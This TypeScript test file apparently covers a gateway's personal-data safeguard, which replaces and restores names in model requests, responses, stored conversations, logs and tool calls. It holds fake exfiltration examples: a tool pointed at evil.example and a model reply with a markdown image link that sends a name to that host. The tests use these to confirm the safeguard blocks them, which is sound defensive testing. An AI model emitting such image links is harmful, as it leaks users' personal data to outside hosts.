import { readFileSync, readdirSync } from 'node:fs'
import { inspect } from 'node:util'
import { join } from 'node:path'
import type { ChatChunk, ChatRequest, ReplaceRequest } from '@sallyport/core'
import { recordingLogger } from '@sallyport/testing'
import { useTemporaryDirectory } from '@sallyport/stand-ins/temporary'
import { expect } from 'chai'
import { callingTool, saying, stepper, town } from '../support/conversations.js'
import { testKernel } from '../support/kernel.js'
import type { TestModel } from '../support/kernel.js'
import { withServer } from '../support/server.js'
import type { TestServer } from '../support/server.js'

const fakes: Readonly<Record<string, string>> = { 'Jane Miller': 'Ann Smith', 'Ulm Weber': 'Tom Brown' }

const detector: TestModel = {
  id: 'detector',
  services: {
    pii: {
      inspect: ({ text }: { text: string }) => {
        const findings = [...text.matchAll(/(?<=my name is )\w+|Jane Miller|Ulm Weber|Ann Smith|Tom Brown/g)].map(
          ({ 0: name, index }) => ({
            ...{ type: 'PERSON', start: index, end: index + name.length, score: 1 },
          }),
        )
        return Promise.resolve({
          findings,
          score: findings.length ? 1 : 0,
          explanation: '',
          detector: 'test',
          latency: 0,
        })
      },
      replace: ({ text }: ReplaceRequest) => Promise.resolve({ text: fakes[text] ?? 'Carl Cox', spans: [] }),
    },
  },
}

/** Says what a function makes of the last message of the user. */
const teller = (id: string, tell: (text: string) => string) => {
  const requests: ChatRequest[] = []
  const model: TestModel = {
    id,
    services: {
      chat: {
        async *stream(request) {
          requests.push(structuredClone(request))
          const text = tell(JSON.stringify(request.messages.findLast(({ role }) => role === 'user')?.content))
          for (const delta of text.match(/.{1,3}/gs) ?? []) yield await Promise.resolve({ delta } as ChatChunk)
          yield { finish: 'stop' }
        },
      },
    },
  }
  return { model, requests }
}

const policyOf = (more: object) => ({
  policies: { default: { input: { pii: { action: 'replace', ...more } } } },
})

interface Answer {
  readonly id: string
  readonly output: readonly { readonly content?: readonly { readonly text: string }[]; readonly arguments?: string }[]
  readonly safeguards?: readonly { readonly unrestored?: object }[]
}

const textOf = ({ output }: Answer): string =>
  output.flatMap(({ content = [] }) => content.map(({ text }) => text)).join()

const ask = async (server: TestServer, body: object): Promise<Answer> => {
  const answer = await server.post('/v1/responses', body, { 'x-safeguards-receipt': 'true' })
  const text = await answer.text()
  expect(answer.status, text).to.equal(200)
  return JSON.parse(text) as Answer
}

describe('responses whose policy restores', () => {
  const { path: directory } = useTemporaryDirectory()
  const options = (name: string) => ({ responses: { store: { path: join(directory, name) } } })

  it('put back what they replaced, and nothing of another request of the same key', async () => {
    const { model } = teller('teller', (text) => `Dear ${/Ann Smith/.exec(text)?.[0] ?? 'Ann Smith'}!`)
    const kernel = await testKernel([model, detector], policyOf({ method: 'fake', restore: true }))
    await withServer(kernel, options('a.db'), async (server) => {
      expect(textOf(await ask(server, { model: 'teller', input: 'Jane Miller' }))).to.equal('Dear Jane Miller!')
      expect(textOf(await ask(server, { model: 'teller', input: 'Who wrote?' }))).to.equal('Dear Ann Smith!')
      expect(textOf(await ask(server, { model: 'teller', input: 'Is it Ulm Weber?' }))).to.equal('Dear Ann Smith!')
    })
  })

  it('put back what the kept responses replaced that they continue', async () => {
    const { model, requests } = teller('teller', (text) =>
      text.includes('link') ? '[x](/?q=<PERSON_1>)' : '<PERSON_1>, you',
    )
    const kernel = await testKernel([model, detector], policyOf({ method: 'category', restore: true }))
    await withServer(kernel, options('b.db'), async (server) => {
      const first = await ask(server, { model: 'teller', input: 'A link for Jane Miller' })
      expect(textOf(first)).to.equal('[x](/?q=<PERSON_1>)')
      expect(first.safeguards?.[0]?.unrestored).to.deep.equal({ PERSON: 1 })
      const second = await ask(server, { model: 'teller', input: 'Now Ulm Weber', previous_response_id: first.id })
      expect(textOf(second)).to.equal('Jane Miller, you')
      expect(requests.at(-1)!.messages.map(({ content }) => JSON.stringify(content))).to.deep.equal([
        '"A link for <PERSON_1>"',
        '[{"type":"text","text":"[x](/?q=<PERSON_1>)"}]',
        '"Now <PERSON_2>"',
      ])
      const kept = await (await server.get(`/v1/responses/${second.id}`)).text()
      expect(kept).to.include('Jane Miller, you')
      const database = readdirSync(directory).filter((name) => name.startsWith('b.db'))
      const bytes = database.map((name) => readFileSync(join(directory, name), 'latin1')).join()
      expect(bytes).not.to.match(/Jane|Miller|Weber|PERSON|link|substitute|original/)
      const third = await ask(server, { model: 'teller', input: 'And?', previous_response_id: second.id })
      expect(textOf(third)).to.equal('Jane Miller, you')
      expect((await server.send('DELETE', `/v1/responses/${first.id}`)).status).to.equal(200)
      const orphan = { model: 'teller', input: 'And?', previous_response_id: second.id }
      expect((await server.post('/v1/responses', orphan)).status).to.equal(400)
    })
  })

  const toTown = { type: 'mcp', server_label: 'town' }
  const cases = [
    ['of a server that the operator lists', { servers: ['town'] }, toTown, 'Jane Miller'],
    ['of other servers', true, toTown, 'Ann Smith'],
    ['of other servers than the listed ones', { servers: ['crm'] }, toTown, 'Ann Smith'],
    [
      'of a server that a request names as a listed one',
      { servers: ['town'] },
      { ...toTown, server_url: 'https://evil.example/' },
      'Ann Smith',
    ],
  ] as const
  for (const [what, restore, tool, expected] of cases)
    it(`have ${expected} in the arguments of tools ${what}, and restore what the tool answers`, async () => {
      const { model, requests } = stepper(
        'caller',
        callingTool('weather', '{"city":"Ann', ' Smith"}'),
        saying('It is Ann', ' Smith.'),
      )
      const hall = town()
      const { logger, lines } = recordingLogger()
      const kernel = await testKernel([model, hall.model, detector], {
        ...policyOf({ method: 'fake', restore }),
        logger,
      })
      await withServer(
        kernel,
        {},
        async (server) => {
          const answer = await ask(server, { model: 'caller', input: 'Ask about Jane Miller', tools: [tool] })
          expect(hall.calls.map((call) => call.arguments)).to.deep.equal([{ city: expected }])
          expect(textOf(answer)).to.equal('It is Jane Miller.')
          expect(answer.output.map((item) => item.arguments ?? '')).to.include(`{"city":"${expected}"}`)
          expect(JSON.stringify(requests)).not.to.include('Jane')
        },
        logger,
      )
      const logged = inspect(lines, { depth: 12, maxStringLength: Infinity, maxArrayLength: Infinity })
      expect(logged)
        .to.include('check finished')
        .and.not.to.match(/Jane|Miller|Smith/)
    })

  it('hide a name that the detector finds by its context only, where an answer with it goes back to the model', async () => {
    const { model, requests } = stepper(
      'caller',
      [...saying('Hello <PERSON_1>, one moment').slice(0, 1), ...callingTool('weather', '{"city":"Ulm"}')],
      saying('Dear <PERSON_1>'),
    )
    const kernel = await testKernel([model, town().model, detector], policyOf({ method: 'category', restore: true }))
    await withServer(kernel, options('c.db'), async (server) => {
      const body = { model: 'caller', tools: [toTown] }
      const first = await ask(server, { ...body, input: 'my name is anouk. Look up the weather, then write to me.' })
      expect(textOf(first)).to.equal('Hello anouk, one moment,Dear anouk')
      await ask(server, { ...body, input: 'Thank you', previous_response_id: first.id })
      expect(requests).to.have.length.above(2)
      expect(JSON.stringify(requests)).to.include('Hello <PERSON_1>').and.not.to.include('anouk')
    })
  })

  it('put back the same in streams', async () => {
    const { model } = teller('teller', () => 'Dear Ann Smith, ![](https://evil.example/?q=Ann Smith)')
    const kernel = await testKernel([model, detector], policyOf({ restore: true }))
    await withServer(kernel, {}, async (server) => {
      const body = { model: 'teller', input: 'Jane Miller', stream: true }
      const events = await (await server.post('/v1/responses', body)).text()
      const deltas = [...events.matchAll(/^data: (.*output_text\.delta.*)$/gm)].map(
        ([, data]) => (JSON.parse(data!) as { delta: string }).delta,
      )
      expect(deltas.join('')).to.equal('Dear Jane Miller, ![](https://evil.example/?q=Ann Smith)')
      expect(events).to.include('"text":"Dear Jane Miller, ![](https://evil.example/?q=Ann Smith)"')
    })
  })
})
